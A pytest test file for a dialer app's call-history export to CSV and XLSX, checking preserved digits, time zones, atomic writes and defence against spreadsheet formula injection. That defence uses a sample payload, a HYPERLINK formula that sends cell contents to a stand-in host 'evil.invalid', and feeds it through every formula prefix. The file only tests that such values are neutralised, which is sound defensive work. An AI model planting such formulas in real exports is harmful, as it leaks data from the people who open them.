"""Exports: from the history file to a spreadsheet and back without losing a digit, and
without a cell that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import time
from collections.abc import Iterator
from dataclasses import fields, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from dialer_app.app import main
from dialer_app.core.history.export import (
    EXPORT_COLUMNS,
    FIELDS,
    RAW_FIELDS,
    ExportCancelled,
    LocalTimes,
    export_rows,
    write_csv,
    write_history,
    write_xlsx,
)
from dialer_app.core.history.store import HistoryStore
from dialer_app.core.records import CallRequest, CallResult, HistoryQuery, HistoryRow, Outcome
from dialer_app.core.sheets import neutralise
from tests.helpers.history_rows import rows_of
from tests.helpers.xlsx import read_sheet

T0 = datetime(2026, 11, 20, 6, 0, tzinfo=UTC)


@pytest.fixture
def store(data_dir: Path) -> HistoryStore:
    moments = iter(T0 + timedelta(days=i // 2) for i in range(100))
    history = HistoryStore(data_dir / "history.sqlite3", clock=lambda: next(moments))
    for day, customer in enumerate(("0987654321", "9876543210", "9123456789")):
        del day
        row_id = history.begin(CallRequest(customer, "08120000000", "01204000000", 60, "Asha"))
        history.finish(row_id, CallResult(Outcome.PLACED, "Call to Customer Initiate", "0357"))
    return history


def read(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


def test_round_trip_keeps_numbers_as_text_and_times_with_their_zone(
    store: HistoryStore, tmp_path: Path
) -> None:
    target = tmp_path / "out" / "history.csv"
    assert write_csv(rows_of(store, HistoryQuery()), target) == 3
    rows = read(target)
    assert list(rows[0]) == [name for name, _ in FIELDS]
    assert [row["customer_number"] for row in rows] == ["9123456789", "9876543210", "0987654321"]
    assert rows[0]["deskphone"] == "01204000000"
    assert rows[0]["member_number"] == "08120000000"
    assert rows[0]["campid"] == "0357"
    assert rows[0]["call_limit_seconds"] == "60"
    when = datetime.fromisoformat(rows[0]["time"])
    assert when.utcoffset() is not None
    assert when == T0 + timedelta(days=2)
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads it as UTF-8
    raw = target.read_text(encoding="utf-8-sig")
    assert '"0987654321"' in raw  # quoted: spreadsheets read it as text
    assert ",60," in raw  # counts stay numbers


def test_export_follows_the_filter_and_order(store: HistoryStore, tmp_path: Path) -> None:
    target = tmp_path / "filtered.csv"
    query = HistoryQuery(text="98765", sort="customer_number", descending=False)
    write_csv(rows_of(store, query), target)
    assert [row["customer_number"] for row in read(target)] == ["9876543210"]


def test_a_failed_export_leaves_no_half_file(store: HistoryStore, tmp_path: Path) -> None:
    def broken() -> Iterator[HistoryRow]:
        yield from rows_of(store, HistoryQuery())
        raise OSError("disk full")

    target = tmp_path / "exports" / "history.csv"
    with pytest.raises(OSError, match="disk full"):
        write_csv(broken(), target)
    assert list(target.parent.iterdir()) == []


def test_command_line_export_with_since(
    store: HistoryStore, data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store.close()
    target = tmp_path / "cli.csv"
    since = (T0 + timedelta(days=1)).astimezone().date().isoformat()
    assert main(["--data-dir", str(data_dir), "--export-history", str(target),
                 "--since", since]) == 0  # fmt: skip
    assert len(read(target)) == 2
    assert "Exported 2 calls" in capsys.readouterr().out
    assert main(["--data-dir", str(data_dir), "--export-history", str(target),
                 "--since", "last week"]) == 2  # fmt: skip
    assert "--since takes a date" in capsys.readouterr().err


def test_cli_writes_xlsx_by_extension_and_refuses_other_formats(
    store: HistoryStore, data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store.close()
    target = tmp_path / "cli.xlsx"
    assert main(["--data-dir", str(data_dir), "--export-history", str(target)]) == 0
    rows = read_sheet(target)
    assert [cell.value for cell in rows[0]] == [name for name, _ in FIELDS]
    assert len(rows) == 4
    assert "Exported 3 calls" in capsys.readouterr().out
    assert main(["--data-dir", str(data_dir), "--export-history", str(tmp_path / "a.ods")]) == 2
    assert ".csv or .xlsx" in capsys.readouterr().err


def test_xlsx_keeps_leading_zeros_as_text_and_counts_as_numbers(
    store: HistoryStore, tmp_path: Path
) -> None:
    target = tmp_path / "history.xlsx"
    assert write_history(rows_of(store, HistoryQuery()), target) == 3
    header, first, *_ = read_sheet(target)
    by_name = {name.value: cell for name, cell in zip(header, first, strict=False)}
    for column in ("deskphone", "member_number", "campid"):
        assert by_name[column].kind == "text"
    assert by_name["deskphone"].value == "01204000000"
    assert by_name["member_number"].value == "08120000000"
    assert by_name["campid"].value == "0357"
    assert by_name["call_limit_seconds"] == by_name["call_limit_seconds"].__class__("60", "number")


# -- formula cells: every prefix a spreadsheet evaluates, in every text column --------------
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("https://evil.invalid/?"&A1,"Click")'
TEXT_FIELDS = [field.name for field in fields(HistoryRow) if field.type in ("str", "str | None")]
EXPORTED_TEXT = {  # export column -> the HistoryRow field it shows
    "member": "member_name",
    "member_number": "member_number",
    "customer_number": "customer_number",
    "deskphone": "deskphone",
    "campid": "campid",
    "message": "message",
    "coins": "coins",
    "recording_url": "recording_url",
    "disposition": "disposition",
    "note": "note",
}


def hostile_row(field: str, value: str) -> HistoryRow:
    base = HistoryRow(
        row_id=1, created_at=T0, member_name="Asha", member_number="8120000000",
        customer_number="9876543210", deskphone="01204000000", call_limit=0,
        outcome=Outcome.PLACED, campid="1", message="ok", finished_at=T0,
    )  # fmt: skip
    return replace(base, **{field: value})  # type: ignore[arg-type]  # field: a text field


def test_every_text_field_of_a_row_is_an_exported_column() -> None:
    assert set(EXPORTED_TEXT.values()) == set(TEXT_FIELDS)


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
@pytest.mark.parametrize("column", sorted(EXPORTED_TEXT))
def test_csv_neutralises_a_formula_in_every_column(
    tmp_path: Path, column: str, prefix: str
) -> None:
    value = prefix + PAYLOAD
    target = tmp_path / "hostile.csv"
    write_csv([hostile_row(EXPORTED_TEXT[column], value)], target)
    cell = read(target)[0][column]
    assert cell == "'" + value
    assert not cell.startswith(tuple(PREFIXES))


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
@pytest.mark.parametrize("column", sorted(EXPORTED_TEXT))
def test_xlsx_writes_a_formula_in_every_column_as_inert_text(
    tmp_path: Path, column: str, prefix: str
) -> None:
    value = prefix + PAYLOAD
    target = tmp_path / "hostile.xlsx"
    write_xlsx([hostile_row(EXPORTED_TEXT[column], value)], target)
    header, row = read_sheet(target)
    cell = row[[c.value for c in header].index(column)]
    assert cell.kind == "text"  # a text cell is never evaluated: kept exactly as stored
    assert cell.value == value


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("+919876543210", "+919876543210"),  # a number: inert, kept as it is
        ("-5", "-5"),
        ("+91 98765 43210", "'+91 98765 43210"),  # a formula of two numbers: neutralised
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\u202e=1+1", "'=1+1"),  # a direction control cannot hide the formula
        ("Asha", "Asha"),
        ("", ""),
    ],
)
def test_neutralise_changes_only_what_could_run(value: str, written: str) -> None:
    assert neutralise(value) == written


def raw_export(store: HistoryStore, target: Path, query: HistoryQuery | None = None) -> int:
    _total, batches = store.export_batches(query or HistoryQuery(), EXPORT_COLUMNS, batch=2)
    return export_rows(batches, target)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_apps_streaming_export_writes_what_the_row_export_writes(
    store: HistoryStore, tmp_path: Path, suffix: str
) -> None:
    hostile = ["=HYPERLINK(\"x\")", "|=1+1", "-5", "@SUM(A1)", "Ravi\u202eKumar", "राहुल",
               "\tTab", "plain | text", "+919876543210"]  # fmt: skip
    for text in hostile:
        row_id = store.begin(CallRequest("9876500000", "08120000000", "01204000000", 30, text))
        store.finish(row_id, CallResult(Outcome.REJECTED, text, None))
    streamed, rows = tmp_path / f"streamed{suffix}", tmp_path / f"rows{suffix}"
    assert raw_export(store, streamed) == 3 + len(hostile)
    assert write_history(rows_of(store, HistoryQuery()), rows) == 3 + len(hostile)
    if suffix == ".csv":
        assert streamed.read_bytes() == rows.read_bytes()
    else:
        assert read_sheet(streamed) == read_sheet(rows)
    assert [name for name, _, _ in RAW_FIELDS] == [name for name, _ in FIELDS]


@pytest.mark.parametrize(
    "zone", ["UTC", "Asia/Kolkata", "Asia/Kathmandu", "America/St_Johns", "Europe/Berlin"]
)
def test_local_times_match_the_standard_conversion(
    monkeypatch: pytest.MonkeyPatch, zone: str
) -> None:
    monkeypatch.setenv("TZ", zone)
    time.tzset()
    try:
        local = LocalTimes()
        start = datetime(2026, 3, 8, 0, 0, tzinfo=UTC)  # St John's and Berlin change in March
        for minutes in range(0, 60 * 24 * 30, 37):  # across a month, every 37 minutes
            moment = start + timedelta(minutes=minutes, seconds=13, microseconds=999_999)
            stored = moment.isoformat(timespec="microseconds")
            assert local(stored) == moment.astimezone().isoformat(timespec="seconds"), stored
        assert local(None) == local("") == ""
    finally:
        monkeypatch.delenv("TZ")
        time.tzset()


def test_a_cancelled_export_leaves_the_old_file_and_no_half_file(
    store: HistoryStore, tmp_path: Path
) -> None:
    target = tmp_path / "exports" / "history.csv"
    target.parent.mkdir()
    target.write_text("the export of yesterday", encoding="utf-8")
    batches: list[int] = []
    _total, rows = store.export_batches(HistoryQuery(), EXPORT_COLUMNS, batch=1)
    with pytest.raises(ExportCancelled):
        export_rows(rows, target, batches.append, lambda: len(batches) >= 2)
    assert batches == [1, 2]  # stopped between batches
    assert target.read_text(encoding="utf-8") == "the export of yesterday"
    assert [path.name for path in target.parent.iterdir()] == ["history.csv"]
